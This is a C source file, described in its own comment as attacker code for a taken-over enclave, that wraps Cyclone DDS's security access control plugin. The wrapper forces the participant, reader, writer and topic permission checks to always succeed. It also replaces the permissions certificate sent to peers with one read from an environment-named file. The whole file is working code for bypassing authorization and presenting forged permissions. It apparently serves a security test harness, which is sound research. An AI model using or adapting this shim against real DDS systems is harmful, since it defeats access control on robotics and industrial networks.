/* What an attacker runs in an enclave that it took over: Cyclone DDS's access control plugin with its own checks
 * switched off, so that any local topic and endpoint is created. To its peers it presents the permissions in the file
 * that PRESENTED_PERMISSIONS names, where that is set, instead of its own. The library that cyclonedds_pair.c takes.
 */
#include <dds/security/dds_security_api.h>
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char *const LIBRARIES[] = {
    "/usr/lib/x86_64-linux-gnu/libddsc0debian/libdds_security_ac.so",
    "/usr/lib/aarch64-linux-gnu/libddsc0debian/libdds_security_ac.so",
};

static void *library;
static DDS_Security_access_control_get_permissions_credential_token own_credential;

static DDS_Security_boolean any_participant(dds_security_access_control *instance,
                                            const DDS_Security_PermissionsHandle handle,
                                            const DDS_Security_DomainId domain, const DDS_Security_Qos *qos,
                                            DDS_Security_SecurityException *ex)
{
    (void)instance, (void)handle, (void)domain, (void)qos, (void)ex;
    return 1;
}

static DDS_Security_boolean any_endpoint(dds_security_access_control *instance,
                                         const DDS_Security_PermissionsHandle handle,
                                         const DDS_Security_DomainId domain, const DDS_Security_char *topic,
                                         const DDS_Security_Qos *qos, const DDS_Security_PartitionQosPolicy *partition,
                                         const DDS_Security_DataTags *tags, DDS_Security_SecurityException *ex)
{
    (void)instance, (void)handle, (void)domain, (void)topic, (void)qos, (void)partition, (void)tags, (void)ex;
    return 1;
}

static DDS_Security_boolean any_topic(dds_security_access_control *instance,
                                      const DDS_Security_PermissionsHandle handle, const DDS_Security_DomainId domain,
                                      const DDS_Security_char *topic, const DDS_Security_Qos *qos,
                                      DDS_Security_SecurityException *ex)
{
    (void)instance, (void)handle, (void)domain, (void)topic, (void)qos, (void)ex;
    return 1;
}

/* The plugin's own, with another document in it. */
static DDS_Security_boolean presented_credential(dds_security_access_control *instance,
                                                 DDS_Security_PermissionsCredentialToken *token,
                                                 const DDS_Security_PermissionsHandle handle,
                                                 DDS_Security_SecurityException *ex)
{
    const char *path = getenv("PRESENTED_PERMISSIONS");
    if (!own_credential(instance, token, handle, ex))
        return 0;
    FILE *file = path != NULL ? fopen(path, "rb") : NULL;
    if (file == NULL)
        return path == NULL;
    static char document[1 << 20];
    size_t length = fread(document, 1, sizeof document - 1, file);
    fclose(file);
    document[length] = '\0';
    for (uint32_t i = 0; i < token->properties._length; i++) {
        DDS_Security_Property_t *property = &token->properties._buffer[i];
        if (strcmp(property->name, "dds.perm.cert") == 0) {
            free(property->value);
            property->value = strdup(document);
        }
    }
    return 1;
}

int init_access_control(const char *argument, void **context, struct ddsi_domaingv *gv)
{
    int (*init)(const char *, void **, struct ddsi_domaingv *);
    for (size_t i = 0; library == NULL && i < sizeof LIBRARIES / sizeof *LIBRARIES; i++)
        library = dlopen(LIBRARIES[i], RTLD_NOW);
    if (library == NULL)
        return -1;
    *(void **)&init = dlsym(library, "init_access_control");
    int result = init(argument, context, gv);
    if (result == 0) {
        dds_security_access_control *instance = *context;
        own_credential = instance->get_permissions_credential_token;
        instance->check_create_participant = any_participant;
        instance->check_create_datawriter = any_endpoint;
        instance->check_create_datareader = any_endpoint;
        instance->check_create_topic = any_topic;
        instance->get_permissions_credential_token = presented_credential;
    }
    return result;
}

int finalize_access_control(void *context)
{
    int (*finalize)(void *);
    *(void **)&finalize = dlsym(library, "finalize_access_control");
    return finalize(context);
}
